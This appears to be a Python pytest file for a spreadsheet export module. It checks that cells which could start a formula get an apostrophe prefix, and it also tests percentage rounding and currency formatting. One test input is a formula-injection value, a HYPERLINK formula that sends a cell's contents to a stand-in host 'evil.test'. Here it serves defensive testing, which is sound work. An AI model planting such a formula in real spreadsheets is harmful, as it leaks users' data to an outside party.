"""What a spreadsheet takes for a formula, and what a part is of a whole."""

from __future__ import annotations

from decimal import Decimal

import pytest

from app.domain.money import Currency
from app.domain.sheets import Amount, Column, Kind, harmless, share_of


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        '=HYPERLINK("http://evil.test?x="&A1)',
        "  =1",
        "\u00a0=1",
        "\ufeff=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "'=1",
        "'quoted'",
    ],
)
def test_what_could_begin_a_formula_stands_behind_an_apostrophe_and_can_be_had_back(text):
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Dana", "a=b", "1-2", "O'Neil", "x@y.test", " Dana", "Łódź", "🎁"])
def test_other_text_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("part", "whole", "percent"),
    [
        (346_50, 300_00, "115.5"),
        (300_00, 300_00, "100.0"),
        (1, 3, "33.3"),
        (2, 3, "66.7"),
        (1, 2000, "0.1"),  # 0.05 is rounded up
        (0, 5, "0.0"),
        (5, 0, None),
    ],
)
def test_a_share_in_percent_is_rounded_half_up_to_one_decimal(part, whole, percent):
    assert share_of(part, whole) == (None if percent is None else Decimal(percent))


def test_an_amount_is_written_with_all_decimals_of_its_currency():
    yen, dinar = Currency("JPY", 0), Currency("KWD", 3)
    assert [str(Amount.of(5, yen)), str(Amount.of(-5, dinar)), str(Amount(3, 0, "count"))] == ["5", "-0.005", "3"]


def test_a_column_has_words_for_people_and_money_a_column_for_its_currency():
    assert Column("over_by", Kind.MONEY).words == "Over by"
    assert Column("over_by", Kind.MONEY).names == ("over_by", "over_by_currency")
    assert Column("id", heading="Entry").words == "Entry"
